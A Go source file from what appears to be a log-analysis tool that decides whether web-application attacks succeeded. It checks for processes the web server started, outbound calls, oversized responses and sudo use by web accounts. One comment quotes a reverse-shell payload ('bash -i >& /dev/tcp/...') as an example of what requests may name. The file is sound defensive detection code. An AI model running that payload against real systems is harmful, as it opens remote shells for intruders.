package incident

import (
	"cmp"
	"context"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"time"

	"github.com/sextant-logs/sextant/internal/prose"
)

// Attacks on web applications: requests are paired with what they were
// answered, and with what the server did next.
//
//	only redirects and errors                                                  → failed
//	a program started by the web server within a minute of a request answered 2xx,
//	or a connection from the server to the attacker's address                  → succeeded
//	an answer much bigger than anyone else got from that page                  → succeeded
//	2xx, the process log covers the time and shows nothing, and others got
//	answers as big                                                             → failed
//	2xx and nothing more                                                       → unknown: the process log, or the application's
var _ = register(pairing{
	name:    "web",
	rank:    20,
	applies: func(n *node) bool { return n.behaviour == webAttack },
	resolve: func(ctx context.Context, c *court, nodes []*node) error {
		if err := c.detail(ctx, nodes, 100); err != nil {
			return err
		}
		var open []*webCase // what was answered does not tell yet
		for _, n := range nodes {
			w, err := webOutcome(ctx, c, n)
			if err != nil {
				return err
			}
			if w != nil {
				open = append(open, w)
			}
		}
		if err := bySize(ctx, c, open); err != nil {
			return err
		}
		if err := byShell(ctx, c, nodes, open); err != nil {
			return err
		}
		for _, w := range open {
			if w.verdict.result == "" {
				w.decide(c)
			}
		}
		return nil
	},
})

// webCase is a finding whose requests were answered, and not known to have done more.
type webCase struct {
	*node
	hosts    []string
	host     string
	answered []record // with a status of success, in order of time
	pages    []record // the biggest answer of each page, biggest first, at most webPages
	ok       string   // says how many were
	shell    verdict  // what tells of a shell: see byShell

	usual    bool // no answer is bigger than others got; of so many pages
	compared int
}

const (
	callReach    = 24 * time.Hour   // from a connection's begin to the record of it
	clockReach   = 15 * time.Minute // between the clocks of two machines, at most
	shellReach   = 24 * time.Hour   // from a request to the use of the shell that it opened
	webReach     = time.Minute      // from a request to what it makes the server do
	biggerTimes  = 2                // an answer this many times the biggest of others holds more than the page
	biggerBytes  = 8 << 10
	pageBaseline = 3 // others' answers that make a baseline
	webPages     = 5 // pages of a finding that are compared
	pageReach    = 30 * 24 * time.Hour
)

// webServers are programs that answer HTTP; what they start, a request may
// have started. webUsers are the accounts they run under.
var (
	webServers = []string{
		"apache2", "httpd", "nginx", "php-fpm", "php", "php-cgi", "lighttpd", "caddy", "uwsgi", "gunicorn", "java", "tomcat", "catalina",
		"node", "w3wp.exe", "httpd.exe", "nginx.exe", "php-cgi.exe", "tomcat.exe", "tomcat9.exe", "java.exe", "node.exe", "umworkerprocess.exe",
	}
	webUsers = []string{"www-data", "apache", "nginx", "httpd", "http", "www", "wwwrun", "tomcat", "IUSR", "DefaultAppPool"}
)

// webOutcome decides what other records tell, and returns what they leave open.
func webOutcome(ctx context.Context, c *court, n *node) (*webCase, error) {
	all := n.tried(attempts)
	if len(all) == 0 {
		return nil, nil
	}
	hosts := c.targets(n)
	host := ""
	if len(hosts) > 0 {
		host = hosts[0]
	}
	var answered []record // 2xx
	var statuses = map[int]int{}
	for _, r := range n.details {
		if r.status != 0 {
			statuses[r.status]++
		}
		if r.status >= 200 && r.status < 300 {
			answered = append(answered, r)
		}
	}
	if !slices.ContainsFunc(n.details, func(r record) bool { return r.is("web") }) && len(n.f.Entities.URLs) == 0 && !fromSensor(n.f) {
		n.behaviour = other // an application's own log of something gone wrong
		return nil, nil
	}
	requests := prose.Count(n.tries, "recorded request")
	if len(statuses) == 0 {
		if fromSensor(n.f) {
			n.behaviour = ids // an alert without the answer
			return nil, nil
		}
		text := fmt.Sprintf("what %s answered to %s is not recorded", hostPhrase(host), requests)
		n.verdict = verdict{result: Unknown, why: []Sentence{{sentence(text), all}}, needs: []string{accessLog(host)}}
		return nil, nil
	}
	if len(answered) == 0 {
		text := fmt.Sprintf("%s was answered with a status of success (%s)", outOf(0, len(n.details)), statusPhrase(statuses))
		if n.tries > len(n.details) {
			text += ", of " + requests
		}
		n.verdict = verdict{result: Failed, covered: true, why: []Sentence{{sentence(text), all}}}
		return nil, nil
	}
	ok := fmt.Sprintf("%s %s answered with a status of success (%s)", outOf(len(answered), len(n.details)), wasWere(len(answered)), statusPhrase(statuses))
	if n.tries > len(n.details) {
		ok = "of " + requests + ", " + ok
	}
	s := span{answered[0].time, answered[len(answered)-1].time + int64(webReach)}

	// What the server started.
	started, err := c.store.startedBy(ctx, hosts, webServers, webUsers, s, 200)
	if err != nil {
		return nil, err
	}
	started = slices.DeleteFunc(started, func(r record) bool {
		return slices.Contains(webServers, programName(&r)) || !soonAfter(answered, r.time, webReach)
	})
	if len(started) > 0 {
		r := started[0]
		text := fmt.Sprintf("%s, and %s the web server of %s ran %s", ok, cmp.Or(after(requestBefore(answered, r.time).time, r.time), "then"), hostPhrase(r.host), programPhrase(&r))
		n.verdict = verdict{result: Succeeded, followed: started[:min(len(started), 10)], why: []Sentence{{sentence(text), cite(idsOf(answered[:min(len(answered), attempts)]), idsOf(started[:min(len(started), 10)]))}}}
		return nil, nil
	}

	// Whom the server called.
	called := outside(n.f.Entities.Sources)
	for _, a := range namedAddresses(answered) { // "bash -i >& /dev/tcp/192.0.2.9/443": the request says whom to call
		if !slices.Contains(called, a) {
			called = append(called, a)
		}
	}
	for _, source := range called {
		// Sensors write of a connection when it has ended, which may be hours later.
		calls, err := c.store.flows(ctx, c.owns[host], []string{source}, span{s.from, s.to + int64(callReach)}, 200)
		if err != nil {
			return nil, err
		}
		calls = slices.DeleteFunc(calls, func(r record) bool {
			a, ok := parseAddress(r.source)
			return !ok || isOutside(a) && c.owner[a.String()] == "" || r.has("denied") || r.outcome == "failure" || !aboutThen(answered, r.began()) || r.sourcePort != "" && lowPort(r.sourcePort)
		})
		if len(calls) > 0 {
			r := calls[0]
			whose := "the attacker's address"
			if !slices.Contains(n.f.Entities.Sources, source) {
				whose = "the address that a request names,"
			}
			text := fmt.Sprintf("%s, and %s opened a connection to %s %s (port %s) at %s", ok, show(r.source), whose, show(r.destination), show(cmp.Or(r.port, "unknown")), clock(r.began()))
			n.verdict = verdict{result: Succeeded, followed: calls[:min(len(calls), 10)], why: []Sentence{{sentence(text), cite(idsOf(answered[:min(len(answered), attempts)]), idsOf(calls[:min(len(calls), 10)]))}}}
			return nil, nil
		}
	}

	w := &webCase{node: n, hosts: hosts, host: host, answered: answered, ok: ok}
	biggest := map[string]record{}
	for _, r := range answered {
		if r.urlPath != "" && r.size > biggest[r.urlPath].size {
			biggest[r.urlPath] = r
		}
	}
	for _, r := range biggest {
		w.pages = append(w.pages, r)
	}
	slices.SortFunc(w.pages, func(a, b record) int {
		return cmp.Or(cmp.Compare(b.size, a.size), strings.Compare(a.id, b.id))
	})
	w.pages = w.pages[:min(len(w.pages), webPages)]
	return w, nil
}

// bySize compares what attackers were answered with what others got from the
// same pages about that time, asking for many pages at once.
func bySize(ctx context.Context, c *court, cases []*webCase) error {
	const (
		paths   = 1000
		biggest = 20
	)
	// What one of several attackers was answered is no measure for another.
	attackers := map[string][]string{}
	for _, w := range cases {
		for _, r := range w.pages {
			if as := attackers[r.urlPath]; len(as) < maxIn && !slices.Contains(as, r.source) {
				attackers[r.urlPath] = append(as, r.source)
			}
		}
	}
	for len(cases) > 0 {
		wanted := map[string]bool{}
		s := span{noTime, noTime}
		part := 0
		for _, w := range cases {
			first, last := w.answered[0].time, w.answered[len(w.answered)-1].time
			if part > 0 && (len(wanted) >= paths || max(s.to, last)-min(s.from, first) > int64(pageReach)) {
				break
			}
			if part == 0 {
				s = span{first, last}
			}
			s.from, s.to = min(s.from, first), max(s.to, last)
			for _, r := range w.pages {
				wanted[r.urlPath] = true
			}
			part++
		}
		if s.from != noTime {
			s.from -= int64(pageReach)
			s.to += int64(24 * time.Hour)
		}
		var pages map[string]page
		if len(wanted) > 0 {
			var err error
			if pages, err = c.store.pages(ctx, sortedKeys(wanted), s, biggest); err != nil {
				return err
			}
		}
		for _, w := range cases[:part] {
			var err error
			if w.usual, w.compared, err = w.compare(ctx, c, pages, attackers, s); err != nil {
				return err
			}
		}
		cases = cases[part:]
	}
	return nil
}

// byShell looks for what nobody does but in a shell: a web server's account has
// no business with sudo. That was opened by the attack last answered before, or
// by one that is known to have opened one.
func byShell(ctx context.Context, c *court, nodes []*node, open []*webCase) error {
	lastBefore := func(w *webCase, at int64) int64 {
		if r := requestBefore(w.answered, at); r.id != "" && at-r.time <= int64(shellReach) {
			return r.time
		}
		return noTime
	}
	for _, w := range open {
		first, last := w.answered[0].time, w.answered[len(w.answered)-1].time
		if w.verdict.result != "" || first == noTime {
			continue
		}
		tried, err := c.store.startedBy(ctx, w.hosts, nil, webUsers, span{first, last + int64(shellReach)}, 200)
		if err != nil {
			return err
		}
		tried = slices.DeleteFunc(tried, func(r record) bool {
			mine := lastBefore(w, r.time)
			if programName(&r) != "sudo" && programName(&r) != "su" || r.command == "" || mine == noTime {
				return true
			}
			return slices.ContainsFunc(open, func(o *webCase) bool { return intersect(o.hosts, w.hosts) && lastBefore(o, r.time) > mine }) ||
				slices.ContainsFunc(nodes, func(n *node) bool {
					return n.verdict.result == Succeeded && intersect(c.targets(n), w.hosts) && n.ranBefore(r.time)
				})
		})
		if len(tried) == 0 {
			continue
		}
		r := tried[0]
		text := fmt.Sprintf("%s, and %s the web server's account %s on %s asked sudo for %s, as nobody does but in a shell", w.ok,
			cmp.Or(after(lastBefore(w, r.time), r.time), "then"), show(r.user), hostPhrase(r.host), programPhrase(&r))
		tried = tried[:min(len(tried), 10)]
		w.shell = verdict{result: Succeeded, followed: tried, why: []Sentence{{sentence(text), cite(idsOf(w.answered[:min(len(w.answered), attempts)]), idsOf(tried))}}}
	}
	for _, w := range open { // one does not hide what tells of the other
		if w.shell.result != "" {
			w.verdict = w.shell
		}
	}
	return nil
}

// ranBefore reports whether the attack is known to have run something, or made
// the server call, within a day before a time.
func (n *node) ranBefore(at int64) bool {
	return slices.ContainsFunc(n.verdict.followed, func(r record) bool {
		return !r.is("web") && r.began() <= at && at-r.began() <= int64(shellReach)
	})
}

// decide gives a finding its verdict that nothing else decides.
func (w *webCase) decide(c *court) {
	n, host, answered := w.node, w.host, w.answered
	processes, audited := c.logs.span("process", host)
	audited = audited && processes.covers(answered[0].time, answered[len(answered)-1].time)
	if audited && w.usual && w.compared > 0 {
		text := fmt.Sprintf("%s, but no answer was bigger than what other clients got from the same pages, and the process log of %s, which covers the time, shows no program started by the web server", w.ok, hostPhrase(host))
		n.verdict = verdict{result: Failed, covered: true, why: []Sentence{{sentence(text), idsOf(answered[:min(len(answered), attempts)])}}}
		return
	}
	biggest := slices.MaxFunc(answered, func(a, b record) int { return cmp.Compare(a.size, b.size) })
	text := w.ok
	if biggest.size > 0 {
		text += fmt.Sprintf("; the biggest answer has %s", prose.Size(biggest.size))
	}
	text += "; an answer alone does not tell whether the attack worked"
	v := verdict{result: Unknown, why: []Sentence{{sentence(text), idsOf(answered[:min(len(answered), attempts)])}}}
	if !audited {
		v.needs = append(v.needs, processLog(host))
	}
	v.needs = append(v.needs, "application and database log of "+hostPhrase(host))
	n.verdict = v
}

// compare compares the sizes of answers with those that others got. It decides
// the case when one is far bigger; usual says that none is bigger.
func (w *webCase) compare(ctx context.Context, c *court, pages map[string]page, attackers map[string][]string, s span) (usual bool, compared int, err error) {
	usual = true
	for _, r := range w.pages {
		p := pages[r.urlPath]
		others, most := p.others, p.most
		if !p.exact {
			for _, b := range slices.Backward(p.biggest) {
				if !slices.Contains(attackers[r.urlPath], b.source) {
					others, most = others+1, b
				}
			}
		}
		bigger := others >= pageBaseline && r.size > biggerTimes*most.size && r.size-most.size > biggerBytes
		if !p.exact && (bigger || others < pageBaseline && len(p.biggest) < p.count) {
			if others, most, err = c.store.pageSizes(ctx, r.urlPath, attackers[r.urlPath], s); err != nil {
				return false, compared, err
			}
			p.exact, p.others, p.most = true, others, most
			pages[r.urlPath] = p
		}
		if others < pageBaseline {
			usual = false
			continue
		}
		compared++
		if r.size > most.size {
			usual = false
		}
		if r.size > biggerTimes*most.size && r.size-most.size > biggerBytes {
			text := fmt.Sprintf("%s; %s gave %s in answer to the attacker, while none of %s to other clients had more than %s: it answered with more than the page",
				w.ok, show(r.urlPath), prose.Size(r.size), prose.Count(others, "answer"), prose.Size(most.size))
			w.verdict = verdict{result: Succeeded, followed: []record{r}, why: []Sentence{{sentence(text), cite([]string{r.id, most.id}, idsOf(w.answered[:min(len(w.answered), attempts)]))}}}
			return false, compared, nil
		}
	}
	return usual && compared == len(w.pages), compared, nil
}

// outOf says how many of the requests that a finding cites.
func outOf(n, of int) string {
	switch {
	case of == 1 && n == 1:
		return "the request cited"
	case of == 1:
		return "no request"
	case n == 0:
		return "none of the " + prose.Number(of) + " requests cited"
	case n == of:
		return "all " + prose.Number(of) + " requests cited"
	}
	return prose.Number(n) + " of the " + prose.Number(of) + " requests cited"
}

func wasWere(n int) string {
	if n == 1 {
		return "was"
	}
	return "were"
}

// soonAfter reports whether t is at most reach after one of the records.
func soonAfter(rs []record, t int64, reach time.Duration) bool {
	r := requestBefore(rs, t)
	return r.id != "" && t-r.time <= int64(reach)
}

// requestBefore returns the last of the records that is not after t.
func requestBefore(rs []record, t int64) record {
	i, _ := slices.BinarySearchFunc(rs, t+1, func(r record, t int64) int { return cmp.Compare(r.time, t) })
	if i == 0 {
		return record{}
	}
	return rs[i-1]
}

func statusPhrase(statuses map[int]int) string {
	var codes []int
	for s := range statuses {
		codes = append(codes, s)
	}
	slices.Sort(codes)
	var parts []string
	for _, s := range codes[:min(len(codes), 6)] {
		parts = append(parts, fmt.Sprintf("%s × %d", prose.Number(statuses[s]), s))
	}
	return "status " + strings.Join(parts, ", ")
}

// programName is the base name of the program a record is about, lower case.
func programName(r *record) string {
	p := normalPath(cmp.Or(r.process, r.executable))
	return p[strings.LastIndexByte(p, '/')+1:]
}

// programPhrase names what was run: the command line where there is one.
func programPhrase(r *record) string {
	p := show(cmp.Or(r.command, r.executable, r.process, r.message))
	if strings.HasPrefix(p, `"`) {
		return p
	}
	return `"` + p + `"`
}

// aboutThen reports whether a time by another machine's clock may be just after
// one of the requests.
func aboutThen(answered []record, at int64) bool {
	return slices.ContainsFunc(answered, func(r record) bool {
		d := at - r.time
		return -int64(clockReach) <= d && d <= int64(clockReach)
	})
}

// namedAddresses returns up to five addresses outside that the requests' text
// names, as attacks name the host that is to be called or fetched from.
func namedAddresses(rs []record) []string {
	var found []string
	for i := range rs {
		text := rs[i].url
		for range 2 { // some encode twice
			if t, err := url.QueryUnescape(text); err == nil {
				text = t
			}
		}
		for _, m := range dotted.FindAllString(text, 20) {
			if a, ok := parseAddress(m); ok && isOutside(a) && !slices.Contains(found, a.String()) && len(found) < 5 {
				found = append(found, a.String())
			}
		}
	}
	return found
}

var dotted = regexp.MustCompile(`\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b`)
